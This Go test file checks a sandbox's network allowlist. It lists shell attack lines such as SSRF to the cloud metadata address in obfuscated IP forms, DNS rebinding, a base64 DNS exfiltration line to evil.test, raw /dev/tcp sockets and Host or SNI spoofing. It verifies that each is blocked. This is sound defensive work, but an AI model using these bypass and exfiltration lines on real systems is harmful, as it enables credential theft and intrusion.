//go:build linux

package egress

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// attack is a line that must reach nothing inside, and does outside.
type attack struct {
	name, line string
	reach      string // begins what the world sees of it outside; empty: not tried there
	never      string // is in nothing that the world may see; empty: reach
}

const direct = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; "

var attacks = []attack{
	{"metadata through the proxy", "curl -sS -m 20 http://169.254.169.254/stolen", "http 169.254.169.254:80", ""},
	{"metadata directly", direct + "curl -sS -m 20 http://169.254.169.254/stolen", "http 169.254.169.254:80", ""},
	{"metadata in one number", direct + "curl -sS -m 20 http://2852039166/stolen", "http 169.254.169.254:80", ""},
	{"metadata in octal", direct + "curl -sS -m 20 http://0251.0376.0251.0376/stolen", "http 169.254.169.254:80", ""},
	{"one number to the proxy", `exec 3<>/dev/tcp/127.0.0.1/61080; printf 'CONNECT 2852039166:80 HTTP/1.1\r\nHost: 2852039166:80\r\n\r\n' >&3; timeout 20 cat <&3`, "", "169.254.169.254:80"},
	{"octal to the proxy", `exec 3<>/dev/tcp/127.0.0.1/61080; printf 'GET http://0251.0376.0251.0376/stolen HTTP/1.1\r\nHost: 0251.0376.0251.0376\r\n\r\n' >&3; timeout 20 cat <&3`, "", "169.254.169.254:80"},
	{"IPv4 in IPv6", direct + "curl -sS -m 20 'http://[::ffff:169.254.169.254]/stolen'", "http 169.254.169.254:80", ""},
	{"IPv4 in IPv6 to the proxy", "curl -sS -m 20 'http://[::ffff:a9fe:a9fe]/stolen'", "", "169.254.169.254:80"},
	{"an allowed name that leads to metadata", "curl -sS -m 20 http://meta.test/stolen", "http 169.254.169.254:80", ""},
	{"an allowed name that leads to metadata, directly", direct + "curl -sS -m 20 http://meta.test/stolen", "http 169.254.169.254:80", ""},
	{"an allowed name that leads there in IPv6 clothes", "curl -sS -m 20 http://mapped.test/stolen", "", "169.254.169.254:80"},
	{"an allowed name that leads there through NAT64", "curl -sS -m 20 http://nat64.test/stolen", "", "169.254.169.254:80"},
	{"an allowed name in the LAN", "curl -sS -m 20 http://lan.test/", "http 10.9.0.1:80", ""},
	{"an allowed name of this machine", "curl -sS -m 20 http://local.test/", "http 127.0.0.1:80", ""},
	{"an allowed name with one address of this machine", "for i in 1 2 3 4; do curl -sS -m 20 http://mixed.test/; done", "", "http "},
	{"rebinding", "for i in 1 2 3 4 5 6; do curl -sS -m 20 http://flip.test/; done", "http 127.0.0.1:80", ""},
	{"rebinding, directly", direct + "for i in 1 2 3 4 5 6; do curl -sS -m 20 http://flip.test/; done", "http 127.0.0.1:80", ""},
	{"a redirect to metadata", "curl -sS -m 20 -L http://a.test/to-metadata", "http 169.254.169.254:80", ""},
	{"a redirect to metadata, directly", direct + "curl -sS -m 20 -L http://a.test/to-metadata", "http 169.254.169.254:80", ""},
	{"a name that is not allowed", "curl -sS -m 20 http://b.test/", "http 93.184.215.15:80", ".test"},
	{"a name that is not allowed, by SOCKS", direct + "curl -sS -m 20 --socks5-hostname 127.0.0.1:61080 http://b.test/", "", "b.test"},
	{"data in a name", "curl -sS -m 20 http://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test; " + direct + "curl -sS -m 20 http://c2VjcmV0.evil.test/", "dns c2VjcmV0.evil.test", "evil"},
	{"a name behind userinfo", "curl -sS -m 20 http://a.test@b.test/", "http 93.184.215.15:80", "b.test"},
	{"an address of an allowed name", direct + "curl -sS -m 20 http://93.184.215.14/", "http 93.184.215.14:80", ""},
	{"a port that is not allowed", direct + "exec 3<>/dev/tcp/93.184.215.14/9998 && echo hello >&3 && cat <&3", "tcp 93.184.215.14:9998", ""},
	{"a port that is not allowed, by CONNECT", "curl -sS -m 20 -p http://a.test:9998/", "", ":9998"},
	{"another server name in TLS", "curl -sSk -m 20 --connect-to b.test:443:a.test:443 https://b.test/", "https b.test 93.184.215.14:443", "https"},
	{"no server name in TLS", "curl -sSk -m 20 --connect-to 93.184.215.14:443:a.test:443 https://93.184.215.14/", "https  93.184.215.14:443", "https"},
	{"another Host", direct + "curl -sS -m 20 -H 'Host: b.test' http://a.test/", "http 93.184.215.14:80 b.test", "b.test"},
	{"another Host to the proxy", "curl -sS -m 20 -H 'Host: b.test' http://a.test/", "http 93.184.215.14:80 b.test", "b.test"},
	{"a second request to another host", `exec 3<>/dev/tcp/127.0.0.1/61080; printf 'GET http://a.test/1 HTTP/1.1\r\nHost: a.test\r\n\r\nGET http://b.test/2 HTTP/1.1\r\nHost: b.test\r\nConnection: close\r\n\r\n' >&3; timeout 20 cat <&3`, "", "b.test"},
	{"a service of this machine", direct + "curl -sS -m 20 http://127.0.0.1:18080/", "http 127.0.0.1:18080", ""},
	{"a service of this machine on IPv6", direct + "curl -sS -m 20 'http://[::1]:18080/'", "http [::1]:18080", ""},
	{"a service of this machine through the proxy", "NO_PROXY= no_proxy= curl -sS -m 20 http://127.0.0.1:18080/", "http 127.0.0.1:18080", ""},
	{"a service of this machine by CONNECT", "NO_PROXY= no_proxy= curl -sS -m 20 -p http://127.0.0.1:18080/", "", "127.0.0.1:18080"},
	{"a service of this machine as 127.1", "NO_PROXY= no_proxy= curl -sS -m 20 http://127.1:18080/; " + direct + "curl -sS -m 20 http://0.0.0.0:18080/", "http 127.0.0.1:18080", ":18080"},
	{"NO_PROXY for everything", "NO_PROXY='*' no_proxy='*' curl -sS -m 20 http://b.test/", "http 93.184.215.15:80", "b.test"},
	{"a datagram", "echo datagram >/dev/udp/93.184.215.14/9999; echo datagram >/dev/udp/127.0.0.1/9999", "udp datagram", ""},
	{"a question to another name server", "getent hosts b.test; echo x >/dev/udp/1.1.1.1/53", "dns b.test", "b.test"},
	{"a LAN service", direct + "exec 3<>/dev/tcp/10.9.0.1/5432 && echo hello >&3 && cat <&3", "tcp 10.9.0.1:5432", ""},
}

var granted = []string{"a.test:80", "a.test:443", "meta.test:80", "mapped.test:80", "nat64.test:80", "lan.test:80", "local.test:80", "mixed.test:80", "flip.test:80", "127.0.0.1:5432"}

func allow(list []string) (flags []string) {
	flags = []string{"--net", "allowlist"}
	for _, s := range list {
		flags = append(flags, "--allow", s)
	}
	return flags
}

func has(list []string, begin string) bool {
	return slices.ContainsFunc(list, func(s string) bool { return strings.HasPrefix(s, begin) })
}

// TestAttacks: nothing but what was allowed is reached, by whatever way, and the
// same line reaches it where there is no boundary.
func TestAttacks(t *testing.T) {
	first := true
	each(t, func(p *place) {
		task := p.open(allow(granted)...)
		for _, a := range attacks {
			taken()
			r := p.sh(task, a.line)
			never := a.never
			if never == "" {
				never = a.reach
			}
			for _, s := range taken() {
				if strings.Contains(s, never) {
					p.t.Errorf("%s: the world saw %q\n%v", a.name, s, r)
				}
			}
			// The control is the machine's, whoever it is run as.
			if first && a.reach != "" {
				r := p.outside(a.line)
				got := taken()
				for end := time.Now().Add(10 * time.Second); !has(got, a.reach) && time.Now().Before(end); got = append(got, taken()...) {
					time.Sleep(10 * time.Millisecond) // a datagram is sent before anybody has read it
				}
				if !has(got, a.reach) {
					p.t.Errorf("%s: a dead test: without a boundary the world saw %q\n%v", a.name, got, r)
				}
			}
		}
		first = false
		// The task itself is not the reason: what was allowed works after all of it.
		if r := p.sh(task, "curl -sS -m 60 http://a.test/still"); !strings.Contains(r.Stdout, "GET /still") {
			p.t.Errorf("the way out is not there any more: %v", r)
		}
	})
}

// TestAllowed: what was allowed is reached by every kind of client, and on record
// before and after.
func TestAllowed(t *testing.T) {
	each(t, func(p *place) {
		task := p.open(allow(granted)...)
		for _, c := range []struct{ line, want, saw string }{
			{"curl -sS -m 60 http://a.test/p", "GET /p", "http 93.184.215.14:80 a.test /p"},
			{"curl -sS -m 60 -d 0123456789 http://a.test/q", "10 bytes", "http 93.184.215.14:80 a.test /q"},
			{"curl -sSk -m 60 https://a.test/r", "GET /r", "https a.test 93.184.215.14:443 a.test /r"},
			{direct + "curl -sS -m 60 http://a.test/s", "GET /s", "http 93.184.215.14:80 a.test /s"},
			{direct + "curl -sSk -m 60 https://a.test/t", "GET /t", "https a.test 93.184.215.14:443 a.test /t"},
			{direct + "curl -sS -m 60 --socks5-hostname 127.0.0.1:61080 http://a.test/u", "GET /u", "http 93.184.215.14:80 a.test /u"},
			{"exec 3<>/dev/tcp/127.0.0.1/5432; echo select >&3; timeout 60 head -n1 <&3", "echo select", "tcp 127.0.0.1:5432 select"},
			{"getent ahostsv4 a.test | head -n1", "198.18.", ""},
			{"cat /etc/resolv.conf", "nameserver 127.0.0.1", ""},
		} {
			taken()
			r := p.sh(task, c.line)
			if !strings.Contains(r.Stdout, c.want) {
				p.t.Errorf("%s: %v", c.line, r)
			}
			if got := taken(); c.saw != "" && !has(got, c.saw) {
				p.t.Errorf("%s: the world saw %q", c.line, got)
			}
		}
		p.OK(p.t, p.repo, "close", "--discard", task)
		begun, ended := map[any]event{}, 0
		for _, e := range p.crossings(task) {
			switch e.Type {
			case "egress.decided":
				if e.Body["verdict"] == "allow" && e.Body["proto"] != "dns" {
					begun[e.Body["crossing"]] = e
				}
			case "egress.ended":
				b, ok := begun[e.Body["crossing"]]
				if !ok || b.Seq >= e.Seq {
					p.t.Errorf("an end without a beginning: %v", e)
				}
				ended++
				if b.Body["path"] == "/q" && (e.Body["address"] != "93.184.215.14:80" || e.Body["up"].(float64) < 10 || e.Body["down"].(float64) < 10) {
					p.t.Errorf("what is on record of an upload: %v", e.Body)
				}
			}
		}
		if len(begun) < 7 || ended != len(begun) {
			p.t.Errorf("%d connections have a beginning on record and %d an end", len(begun), ended)
		}
	})
}

// TestNone: without a way out there is none, whatever is asked and however empty
// the list is.
func TestNone(t *testing.T) {
	each(t, func(p *place) {
		for _, flags := range [][]string{nil, {"--net", "none"}, {"--net", "allowlist"}} {
			task := p.open(flags...)
			taken()
			r := p.sh(task, "curl -sS -m 20 http://a.test/; "+direct+"curl -sS -m 20 http://a.test/; curl -sS -m 20 http://93.184.215.14/; curl -sS -m 20 -x http://127.0.0.1:61080 http://a.test/; getent hosts a.test; curl -sS -m 20 http://127.0.0.1:18080/; true")
			if got := taken(); len(got) > 0 {
				p.t.Errorf("%q: the world saw %q\n%v", flags, got, r)
			}
			p.OK(p.t, p.repo, "close", "--discard", task)
		}
	})
}
